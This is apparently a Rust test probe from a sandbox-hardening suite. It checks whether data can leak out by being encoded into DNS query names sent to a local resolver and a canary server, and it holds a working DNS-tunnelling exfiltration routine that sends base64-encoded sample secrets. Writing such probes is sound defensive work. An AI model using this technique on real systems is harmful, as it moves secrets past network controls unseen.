//! Data in names; judged by what the canary server was asked.

use crate::prove::probe::{Act, Class, Probe, Setting};
use ringfence_policy::layer::Layer;
use ringfence_policy::statement::Claim;
use ringfence_sys::attack::{Attempt, Params, network};

pub(in crate::prove) const PROBE: Probe = Probe {
    id: "exfiltrate",
    class: Class::Names,
    claim: Claim::NetNames,
    attack: "sends data out in the labels of names",
    act: Act::NativeSeen(attack, "dns:exfiltrate"),
    refusals: &["not-seen", "no-answer"],
    setting: Setting::Exact,
    layers: &[Layer::Broker, Layer::Namespaces],
};

/// Asks the resolver inside (nobody is there outside) and the canary server, in turn.
fn attack(params: &Params) -> Attempt {
    let zone = params.text("dns_zone")?;
    let resolver = std::net::SocketAddr::from(([127, 0, 0, 1], 53));
    for (number, data) in ["c2VjcmV0", "a2V5", "MTIzNDU2Nzg5MA"].into_iter().enumerate() {
        let name = format!("exfiltrate.{data}.{number}.{zone}");
        let _ = network::ask(resolver, &name);
        let _ = network::ask(params.address("dns")?, &name);
    }
    Ok("asked for three names that carry data".to_owned())
}
